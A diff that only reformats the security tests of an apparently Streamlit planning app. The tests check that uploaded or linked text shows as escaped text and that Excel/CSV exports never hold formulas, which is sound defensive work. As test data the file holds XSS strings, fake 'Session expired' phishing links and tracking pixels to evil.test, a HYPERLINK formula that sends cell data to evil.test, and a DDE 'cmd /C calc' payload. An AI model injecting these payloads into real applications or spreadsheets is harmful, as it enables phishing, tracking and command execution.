@@ -78,23 +78,29 @@ def test_all_levers_at_maximum_for_the_whole_horizon_runs_clean() -> None:
         assert math.isfinite(value) and value > 0, f"{kpi} shows {value}"
 
 
-@pytest.mark.parametrize("name", [
-    "<script>alert('x')</script><img src=x onerror=alert(1)>",
-    "Баткен облусу: өрүк, суу жана жолдор — " * 3,
-    "ش" * 120,
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "<script>alert('x')</script><img src=x onerror=alert(1)>",
+        "Баткен облусу: өрүк, суу жана жолдор — " * 3,
+        "ش" * 120,
+    ],
+)
 def test_markup_and_long_non_latin_names_load_as_plain_text(name: str) -> None:
     """Names and notes from a file are text, shown escaped (never as HTML)."""
-    s = Scenario.from_settings({"sme_support": 50.0}, name=name[:120],
-                               notes="<b>bold?</b> <script>x</script>")
+    s = Scenario.from_settings(
+        {"sme_support": 50.0}, name=name[:120], notes="<b>bold?</b> <script>x</script>"
+    )
     at = goto(new_app(), "files")
-    at.file_uploader(key="upload").set_value(("n.toml", dump_scenario(s).encode(),
-                                              "application/toml")).run()
+    at.file_uploader(key="upload").set_value(
+        ("n.toml", dump_scenario(s).encode(), "application/toml")
+    ).run()
     no_exception(at)
     assert not at.error, [e.value for e in at.error]
     for element in (*at.markdown, *at.caption, *at.info, *at.success):
         assert not getattr(element.proto, "allow_html", False) or "<script" not in element.value, (
-            "text from a file reached an element that renders HTML")
+            "text from a file reached an element that renders HTML"
+        )
 
 
 @settings(max_examples=400, deadline=None)
@@ -123,10 +129,13 @@ def test_link_values_round_trip(data) -> None:
     assert float(text) == value
 
 
-@pytest.mark.parametrize(("lang", "words"), [
-    ("ru", ("число", "млн сом")),
-    ("ky", ("сан", "млн сом")),
-])
+@pytest.mark.parametrize(
+    ("lang", "words"),
+    [
+        ("ru", ("число", "млн сом")),
+        ("ky", ("сан", "млн сом")),
+    ],
+)
 def test_file_errors_speak_the_planners_language(lang: str, words: tuple[str, str]) -> None:
     """Type and range errors from a file use the planner's language, units included."""
     at = goto(new_app(lang=lang), "files")
@@ -141,17 +150,28 @@ def test_file_errors_speak_the_planners_language(lang: str, words: tuple[str, st
     assert words[1] in message and "million som" not in message, message
 
 
-
 # --- issue #11: injection and exhaustion ---------------------------------------------------
 
 #: The link from the issue: a fake "Session expired" heading, a phishing link and an
 #: image that tells evil.test the visitor's address, hidden in the model version.
-HOSTILE_V = ("0\n\n# Session expired\n\n[Sign in again](http://evil.test/phish)\n\n"
-             "![](http://evil.test/pixel.gif)")
+HOSTILE_V = (
+    "0\n\n# Session expired\n\n[Sign in again](http://evil.test/phish)\n\n"
+    "![](http://evil.test/pixel.gif)"
+)
 HOSTILE_MD = "![n](http://evil.test/name.png) **Sign in** [here](http://evil.test/x) :red[!]"
 EVIL = "evil.test"
-MARKDOWN_KINDS = ("markdown", "caption", "title", "header", "subheader", "warning", "error",
-                  "info", "success", "toast")
+MARKDOWN_KINDS = (
+    "markdown",
+    "caption",
+    "title",
+    "header",
+    "subheader",
+    "warning",
+    "error",
+    "info",
+    "success",
+    "toast",
+)
 
 
 def outside_code_spans(markdown: str) -> str:
@@ -181,12 +201,15 @@ def shown_only_as_text(at, needle: str = EVIL) -> int:
     return shown
 
 
-@pytest.mark.parametrize(("query", "needle"), [
-    ({"v": HOSTILE_V}, "Session expired"),  # shown cut to 20 characters
-    ({"sme_support": "![](http://evil.test/p.gif)"}, EVIL),
-    ({"budget": "[x](http://evil.test/b)"}, EVIL),
-    ({"year": "<img src=http://evil.test/y.gif>"}, EVIL),
-])
+@pytest.mark.parametrize(
+    ("query", "needle"),
+    [
+        ({"v": HOSTILE_V}, "Session expired"),  # shown cut to 20 characters
+        ({"sme_support": "![](http://evil.test/p.gif)"}, EVIL),
+        ({"budget": "[x](http://evil.test/b)"}, EVIL),
+        ({"year": "<img src=http://evil.test/y.gif>"}, EVIL),
+    ],
+)
 def test_hostile_link_values_are_shown_as_text(query: dict[str, str], needle: str) -> None:
     at = new_app(**query)
     no_exception(at)
@@ -197,8 +220,11 @@ def test_hostile_link_values_are_shown_as_text(query: dict[str, str], needle: st
 
 
 def hostile_scenario_file() -> tuple[str, bytes]:
-    s = Scenario.from_settings({"sme_support": 60.0}, name=HOSTILE_MD[:120],
-                               description="# Session expired\n\n" + HOSTILE_MD)
+    s = Scenario.from_settings(
+        {"sme_support": 60.0},
+        name=HOSTILE_MD[:120],
+        description="# Session expired\n\n" + HOSTILE_MD,
+    )
     return "![n](http:__evil.test_name.png).toml", dump_scenario(s).encode()
 
 
@@ -232,9 +258,13 @@ def test_hostile_file_name_and_text_are_shown_as_text_on_every_page() -> None:
 def test_budget_and_year_in_a_link_are_checked_and_named() -> None:
     """Before, Streamlit dropped them without a word (budget=-5, year=1999) or changed
     them (budget=1500.5 became 1500; the budget box now keeps 1500.5)."""
-    for query, key in (({"budget": "-5"}, "budget"), ({"budget": "1e9"}, "budget"),
-                       ({"budget": "abc"}, "budget"), ({"year": "1999"}, "year"),
-                       ({"year": "2030.5"}, "year")):
+    for query, key in (
+        ({"budget": "-5"}, "budget"),
+        ({"budget": "1e9"}, "budget"),
+        ({"budget": "abc"}, "budget"),
+        ({"year": "1999"}, "year"),
+        ({"year": "2030.5"}, "year"),
+    ):
         at = new_app(**query, sme_support="40")
         no_exception(at)
         warnings = " ".join(w.value for w in at.warning)
@@ -301,16 +331,23 @@ def test_each_upload_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
     assert len(calls) == 1 and other.button(key="apply_0")
 
 
-FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 def test_excel_and_csv_store_outside_text_as_text_never_a_formula() -> None:
     settings = {k: s.default for k, s in ALL_SETTINGS.items()} | {"sme_support": 100.0}
     result = _result(run_scenarios([settings]), 0)
     meta = {"name": FORMULAS[0], "description": FORMULAS[1]}
-    book = openpyxl.load_workbook(io.BytesIO(
-        exports.results_xlsx(settings, meta, result, "https://x.example/?v=1", "en")))
+    book = openpyxl.load_workbook(
+        io.BytesIO(exports.results_xlsx(settings, meta, result, "https://x.example/?v=1", "en"))
+    )
     cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"
     by_value = {c.value: c for c in cells if isinstance(c.value, str)}
@@ -326,7 +363,8 @@ def test_excel_and_csv_store_outside_text_as_text_never_a_formula() -> None:
 
 
 def test_sobol_runs_one_at_a_time_and_is_shared_by_settings(
-        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     """Eight tabs asking for the largest Sobol at once: one computation per distinct
     question, never two at the same time (each peaked at ~170 MB in the server before)."""
     running, peak, calls = [0], [0], []
@@ -353,8 +391,14 @@ def test_sobol_runs_one_at_a_time_and_is_shared_by_settings(
     settings = tuple((k, float(s.default)) for k, s in ALL_SETTINGS.items())
     keys = [(settings, 2030 + i % 2, "grp", 1024) for i in range(8)]  # two questions
     got: list = []
-    threads = [threading.Thread(target=lambda k=k: got.append(
-        analysis.run_sobol(k, progress=lambda x: None, waiting=lambda: None))) for k in keys]
+    threads = [
+        threading.Thread(
+            target=lambda k=k: got.append(
+                analysis.run_sobol(k, progress=lambda x: None, waiting=lambda: None)
+            )
+        )
+        for k in keys
+    ]
     for th in threads:
         th.start()
     for th in threads:
@@ -398,6 +442,7 @@ def test_a_visitor_never_sees_a_traceback_or_a_server_path() -> None:
     before = config.get_option("client.showErrorDetails")
     config.set_option("client.showErrorDetails", value)
     try:
+
         def boom() -> None:
             raise RuntimeError("secret detail at /srv/app/secret.py")
 
